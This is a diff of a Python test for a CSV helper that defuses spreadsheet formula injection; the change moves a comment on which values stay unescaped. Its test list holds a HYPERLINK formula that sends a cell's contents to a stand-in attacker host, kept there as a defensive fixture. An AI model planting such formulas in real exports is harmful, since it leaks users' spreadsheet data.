@@ -16,8 +16,10 @@ DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"Invoice")', "+1+2", "-3+
 def test_cells_that_start_a_formula_are_defused() -> None:
     for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
         assert safe_cell(value) == "'" + value
+    # Numbers stay numbers; a sign inside a cell is harmless. A leading space is left too, as
+    # OWASP's rule does: spreadsheets read " =1" as text.
     for value in ("acme", "a=b", " =1", "", -5, 3.5, None):
-        assert safe_cell(value) == value  # numbers stay numbers, inner signs are harmless
+        assert safe_cell(value) == value
     text = to_csv(["name", "count"], [{"name": "=1+1", "count": -2}])
     assert list(csv.reader(io.StringIO(text))) == [["name", "count"], ["'=1+1", "-2"]]
 
